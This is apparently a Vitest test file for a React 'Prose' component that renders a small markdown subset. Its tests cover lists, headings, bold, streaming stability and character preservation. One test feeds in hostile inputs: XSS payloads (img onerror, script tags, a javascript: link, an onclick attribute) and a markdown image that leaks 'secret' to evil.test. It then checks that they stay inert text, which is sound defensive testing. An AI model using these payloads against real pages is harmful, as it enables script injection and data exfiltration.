import { cleanup, render } from '@testing-library/react'
import { afterEach, expect, test } from 'vitest'
import { blocksOf, Prose } from '../src/prose.tsx'

afterEach(cleanup)

const html = (text: string): string => {
  const { container } = render(<Prose text={text} />)
  return (container.firstElementChild as HTMLElement).innerHTML
}

test('paragraphs, lists, headings, bold and code are drawn', () => {
  expect(html('One\ntwo\n\n## Head\n- a\n- **b**\n\n3. `c`\n4. d')).toBe(
    '<p>One\ntwo</p><p class="prose-heading">Head</p>' +
      '<ul><li>a</li><li><strong>b</strong></li></ul>' +
      '<ol start="3"><li><code>c</code></li><li>d</li></ol>',
  )
})

test('HTML, images and links stay the characters they are', () => {
  const hostile = [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '![a](https://evil.test/leak?q=secret)',
    '[click](javascript:alert(1))',
    '**<b onclick=alert(1)>x</b>**',
  ]
  const { container } = render(<Prose text={hostile.join('\n\n')} />)
  expect(container.querySelectorAll('img, script, a, b, [onclick], [src], [href]')).toHaveLength(0)
  for (const line of hostile) expect(container.textContent).toContain(line.replaceAll('**', ''))
})

test('half-open markup is text until it closes', () => {
  expect(html('so **bold')).toBe('<p>so **bold</p>')
  expect(html('so **bold**')).toBe('<p>so <strong>bold</strong></p>')
})

test('appending never changes an earlier block', () => {
  const text = 'First.\n\n- one\n- two\n\nSecond line\nof it.\n\n# Head\nTail'
  let before: string[] = []
  for (let length = 0; length <= text.length; length++) {
    const now = blocksOf(text.slice(0, length))
    for (const [index, block] of before.slice(0, -1).entries()) expect(now[index]).toBe(block)
    before = now
  }
})

test('no character of the text is lost', () => {
  const text = 'a\n\n\n- b\n1. c\n\n\n\n「可決」です。\n'
  expect(blocksOf(text).join('\n')).toBe('a\n- b\n1. c\n「可決」です。')
})
